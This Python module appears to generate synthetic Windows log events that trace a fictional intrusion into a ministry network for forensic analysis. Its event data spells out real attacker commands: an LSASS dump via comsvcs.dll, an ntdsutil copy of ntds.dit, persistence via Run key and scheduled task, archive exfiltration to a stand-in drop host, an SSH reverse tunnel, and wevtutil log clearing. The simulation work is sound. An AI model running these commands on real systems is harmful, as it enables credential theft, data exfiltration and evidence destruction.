"""The true trail on the ministry's machines, from the opened lure to the emptied logs.

Why: each step is one that the field knows from many intrusions by many hands; together they fit
no single actor. Whoever reads the evidence should find the steps and name nobody for them.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta

from story.windows import (
    CMD,
    EXPLORER,
    OFFICE,
    SYSTEM32,
    SYSTEM_USER,
    Event,
    audited_start,
    connected,
    file_made,
    library_loaded,
    log_cleared,
    logged_on,
    name_asked,
    opened_process,
    replicated,
    service_installed,
    started,
    value_set,
)
from story.world import (
    ADMIN,
    CONTROLLER,
    DOMAIN,
    DROP,
    FAR_SIDE,
    FILE_SERVER,
    FILE_SERVER_ADDRESS,
    ILSA,
    JORUN,
    LOOKALIKE,
    NEST,
    TOMAS,
    at,
    contacts,
    packing_days,
)

VICTIM = ILSA.host
VICTIM_USER = f"{DOMAIN}\\{ILSA.account}"
STOLEN_USER = f"{DOMAIN}\\{ADMIN}"
RUNDLL = rf"{SYSTEM32}\rundll32.exe"
REMOTE_HOST = rf"{SYSTEM32}\wbem\WmiPrvSE.exe"
LSASS = rf"{SYSTEM32}\lsass.exe"
IMPLANT = rf"{NEST}\psync.exe"
RUN_KEY = r"HKU\S-1-5-21-7\Software\Microsoft\Windows\CurrentVersion\Run\PrintSync"


def intrusion_events() -> Iterator[Event]:
    """Yield all that the intruders left in Windows logs, in no order."""
    yield from _lure_opened()
    yield from _nest_built()
    yield from _calls_home()
    yield from _looked_around()
    yield from _credentials_taken()
    yield from _moved_on()
    yield from _directory_taken()
    yield from _packed_and_carried()
    yield from _tunnel()
    yield from _traces_removed()


def _lure_opened() -> Iterator[Event]:
    temp = rf"C:\Users\{ILSA.account}\AppData\Local"
    image = rf"{temp}\Microsoft\Windows\INetCache\Content.Outlook\9K2JQ\Seating plan.iso"
    library = rf"{temp}\Temp\seating.dll"
    line = f"rundll32.exe {library},Start"
    home = (f"dl.{LOOKALIKE}", "198.51.100.7")
    yield file_made(
        at("2023-09-19 09:33:02.411"), VICTIM, VICTIM_USER, rf"{OFFICE}\OUTLOOK.EXE", image
    )
    yield file_made(at("2023-09-19 09:34:15.020"), VICTIM, VICTIM_USER, EXPLORER, library)
    yield started(at("2023-09-19 09:34:17.338"), VICTIM, VICTIM_USER, RUNDLL, line)
    yield audited_start(at("2023-09-19 09:34:17.338"), VICTIM, VICTIM_USER, RUNDLL, line)
    yield name_asked(at("2023-09-19 09:34:21.870"), VICTIM, VICTIM_USER, RUNDLL, home)
    yield connected(
        at("2023-09-19 09:34:22.104"), VICTIM, VICTIM_USER, RUNDLL, (home[1], 443, home[0])
    )


def _nest_built() -> Iterator[Event]:
    text, library = rf"{NEST}\ps.txt", rf"{NEST}\version.dll"
    task = f'schtasks /create /tn "PrintSync Update" /tr {IMPLANT} /sc daily /st 10:15 /f'
    decode = f"certutil -decode {text} {library}"
    yield file_made(at("2023-09-19 09:36:40.551"), VICTIM, VICTIM_USER, RUNDLL, IMPLANT)
    yield file_made(at("2023-09-19 09:36:41.092"), VICTIM, VICTIM_USER, RUNDLL, text)
    yield _typed(at("2023-09-19 09:37:03.660"), "certutil.exe", decode, RUNDLL)
    yield value_set(at("2023-09-19 09:38:30.115"), VICTIM, RUNDLL, RUN_KEY, IMPLANT)
    yield _typed(at("2023-09-19 09:39:11.402"), "schtasks.exe", task, RUNDLL)
    yield started(at("2023-09-19 09:41:07.900"), VICTIM, VICTIM_USER, IMPLANT, IMPLANT, RUNDLL)
    yield library_loaded(at("2023-09-19 09:41:08.217"), VICTIM, IMPLANT, library, signer="")


def _calls_home() -> Iterator[Event]:
    for when in contacts():
        cloud = ("graph.microsoft.com", "192.0.2.101")
        yield name_asked(when, VICTIM, VICTIM_USER, IMPLANT, cloud)
        yield connected(
            when + timedelta(milliseconds=310),
            VICTIM,
            VICTIM_USER,
            IMPLANT,
            (cloud[1], 443, cloud[0]),
        )


def _looked_around() -> Iterator[Event]:
    for clock, tool, line in (
        ("09:12:30", "whoami.exe", "whoami /all"),
        ("09:12:58", "ipconfig.exe", "ipconfig /all"),
        ("09:13:22", "systeminfo.exe", "systeminfo"),
        ("09:14:05", "net.exe", 'net group "Domain Admins" /domain'),
        ("09:14:41", "nltest.exe", "nltest /dclist:mfasun"),
        ("09:15:20", "nltest.exe", "nltest /domain_trusts"),
        ("09:15:52", "net.exe", "net view \\\\FS01 /all"),
        ("09:16:30", "tasklist.exe", "tasklist /svc"),
    ):
        yield _typed(at(f"2023-09-21 {clock}.250"), tool, line, CMD)
    yield started(at("2023-09-21 09:12:21.004"), VICTIM, VICTIM_USER, CMD, "cmd.exe", IMPLANT)


def _credentials_taken() -> Iterator[Event]:
    """Yield the theft of credentials, two hours after the administrator helped with a printer."""
    line = rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 652 {NEST}\d.bin full"
    dumped = at("2023-10-11 10:47:33.609")
    yield logged_on(at("2023-10-11 09:02:10.300"), VICTIM, ADMIN, 10, JORUN.address)
    yield started(dumped, VICTIM, SYSTEM_USER, RUNDLL, line, CMD)
    yield audited_start(dumped, VICTIM, SYSTEM_USER, RUNDLL, line, CMD)
    yield opened_process(dumped + timedelta(milliseconds=150), VICTIM, RUNDLL, LSASS, "0x1fffff")
    yield file_made(
        dumped + timedelta(milliseconds=420), VICTIM, SYSTEM_USER, RUNDLL, rf"{NEST}\d.bin"
    )


def _moved_on() -> Iterator[Event]:
    whoami = r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1697106123.61 2>&1"
    listing = r"cmd.exe /Q /c dir D:\shares\Protocol$ /s 1> \\127.0.0.1\ADMIN$\__1697106187.02 2>&1"
    yield logged_on(at("2023-10-12 10:21:58.700"), FILE_SERVER, ADMIN, 3, ILSA.address)
    yield _remote(at("2023-10-12 10:22:03.610"), FILE_SERVER, whoami)
    yield _remote(at("2023-10-12 10:23:07.020"), FILE_SERVER, listing)
    yield service_installed(
        at("2023-10-12 10:31:44.180"), FILE_SERVER, "PrintSyncSvc", f"{IMPLANT} -k"
    )
    yield logged_on(at("2024-03-04 11:40:12.040"), TOMAS.host, ADMIN, 3, FILE_SERVER_ADDRESS)


def _directory_taken() -> Iterator[Event]:
    medium = r'ntdsutil "ac i ntds" "ifm" "create full C:\PerfLogs\n" q q'
    when = at("2023-11-08 10:05:51.330")
    yield logged_on(when - timedelta(seconds=9), CONTROLLER, ADMIN, 3, FILE_SERVER_ADDRESS)
    yield _remote(when, CONTROLLER, f"cmd.exe /Q /c {medium}")
    yield started(
        when + timedelta(milliseconds=90), CONTROLLER, STOLEN_USER,
        rf"{SYSTEM32}\ntdsutil.exe", medium, CMD,
    )  # fmt: skip
    yield file_made(
        when + timedelta(seconds=40), CONTROLLER, STOLEN_USER,
        rf"{SYSTEM32}\ntdsutil.exe", r"C:\PerfLogs\n\Active Directory\ntds.dit",
    )  # fmt: skip
    for second in (0, 1, 1, 2):
        yield replicated(at("2024-02-14 12:15:20") + timedelta(seconds=second), ADMIN)


def _packed_and_carried() -> Iterator[Event]:
    packer, carrier = r"C:\PerfLogs\r.exe", rf"{NEST}\pcs.exe"
    for number, when in enumerate(packing_days(), 1):
        archive = rf"C:\PerfLogs\p{number:02}.part1.rar"
        options = f"-r -m5 -v40m -hpK7w9-{number:02}"
        source = r"D:\shares\Protocol$\*.docx"
        packing = rf"r.exe a {options} C:\PerfLogs\p{number:02}.rar {source}"
        carrying = rf"pcs.exe copy C:\PerfLogs crate:in --config {NEST}\p.conf --transfers 2"
        later = when + timedelta(minutes=11, seconds=7 * number)
        home = (DROP, "203.0.113.80")
        yield started(when, FILE_SERVER, STOLEN_USER, packer, packing, CMD)
        yield file_made(when + timedelta(seconds=2), FILE_SERVER, STOLEN_USER, packer, archive)
        yield started(later, FILE_SERVER, STOLEN_USER, carrier, carrying, CMD)
        yield name_asked(later + timedelta(seconds=1), FILE_SERVER, STOLEN_USER, carrier, home)


def _tunnel() -> Iterator[Event]:
    line = f"ssh.exe -N -R 40001:127.0.0.1:3389 -p 443 t@{FAR_SIDE}"
    when = at("2024-09-10 13:02:15.440")
    ssh = rf"{SYSTEM32}\OpenSSH\ssh.exe"
    yield started(when, FILE_SERVER, STOLEN_USER, ssh, line, CMD)
    yield connected(
        when + timedelta(milliseconds=600), FILE_SERVER, STOLEN_USER, ssh, (FAR_SIDE, 443, "-")
    )
    for minute in (3, 95):
        yield logged_on(when + timedelta(minutes=minute), FILE_SERVER, ADMIN, 10, "127.0.0.1")


def _traces_removed() -> Iterator[Event]:
    """Yield the emptied logs, a day after the ministry has noticed, before it says so."""
    when = at("2025-02-27 15:48:10.200")
    for second, log in enumerate(("Security", "System")):
        start = when + timedelta(seconds=3 * second)
        line = f"wevtutil cl {log}"
        yield started(start, FILE_SERVER, STOLEN_USER, rf"{SYSTEM32}\wevtutil.exe", line, CMD)
    yield from log_cleared(when + timedelta(milliseconds=700), FILE_SERVER, ADMIN)


def _typed(when: datetime, tool: str, line: str, parent: str) -> Event:
    return started(when, VICTIM, VICTIM_USER, rf"{SYSTEM32}\{tool}", line, parent)


def _remote(when: datetime, host: str, line: str) -> Event:
    return started(when, host, STOLEN_USER, CMD, line, REMOTE_HOST)
